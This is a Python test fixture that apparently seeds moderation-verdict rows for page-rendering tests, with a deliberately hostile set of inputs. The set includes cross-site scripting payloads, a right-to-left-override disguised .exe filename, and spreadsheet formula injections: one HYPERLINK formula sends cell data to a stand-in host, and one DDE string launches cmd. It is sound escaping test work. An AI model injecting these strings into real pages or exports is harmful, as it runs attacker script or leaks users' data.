"""What the pages under test are about: two days small enough to count, and rows written to do harm."""

from tests.sql.golden import FIRST, SECOND, Row, audited, set_aside, verdict

NOW = "2026-11-02T18:00:30+00:00"
"""The moment at which pages are looked at."""

BLOCKED_SPAM, REVIEWED_THREATS = 7, 4

SCRIPTS = (
    "<script>window.ran = 1</script>",
    "\"><img src=x onerror='window.ran = 1'>",
    "'\"></bdi></td></table></style></title><svg onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "javascript:window.ran=1",
    "{{ 7 * 7 }}{% set ran = 1 %}&lt;script&gt;window.ran=1&lt;/script&gt;",
)
TURNED = "user\u202efdp.exe\u2066 \u200f\u061c\ufeff"
SHOWN_TURNED = r"user\u202efdp.exe\u2066 \u200f\u061c\ufeff"
LONG = "w" * 280
FORMULAS = ('=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1")
HOSTILE = (*SCRIPTS, TURNED, LONG, *FORMULAS)


def _hostile() -> list[Row]:
    """Each hostile text in each place of a row that a producer or a policy's author may write."""
    rows = []
    for number, text in enumerate(HOSTILE):
        label, name = (text[:64], text[:256])
        rows.append(
            verdict(
                f"hostile-{number}",
                f"{SECOND} 16:{number:02d}:00",
                excerpt=text,
                author_id=name,
                surface=label,
                language=label,
                action="flag",
                labels=[label],
                signals=[{"detector": "terms", "label": label, "score": 0.9, "rule": label}],
                policy_id=label,
                content_id=name,
                text_fingerprint=label,
            )
        )
    return rows


VERDICTS: tuple[Row, ...] = (
    *(
        verdict(f"spam-{number}", f"{SECOND} 09:{number:02d}:00", action="block", labels=["spam"], author_id="mal")
        for number in range(BLOCKED_SPAM)
    ),
    *(
        verdict(f"threat-{number}", f"{SECOND} 11:{number:02d}:00", action="review", labels=["threat"], surface="chat",
                author_id="bob")
        for number in range(REVIEWED_THREATS)
    ),
    *(verdict(f"fine-{number}", f"{SECOND} {number:02d}:30:00", text_fingerprint=str(number)) for number in range(16)),
    *(verdict(f"before-{number}", f"{FIRST} 12:{number:02d}:00") for number in range(10)),
    *_hostile(),
)  # fmt: skip

QUARANTINED: tuple[Row, ...] = (
    set_aside("bad-1", f"{SECOND} 10:00:00"),
    set_aside("bad-2", f"{SECOND} 10:00:01", reason=SCRIPTS[0], detail=SCRIPTS[1]),
)
AUDITED: tuple[Row, ...] = (audited(SECOND, at=f"{SECOND} 17:00:00", archived=len(VERDICTS) - 10, missing=1),)
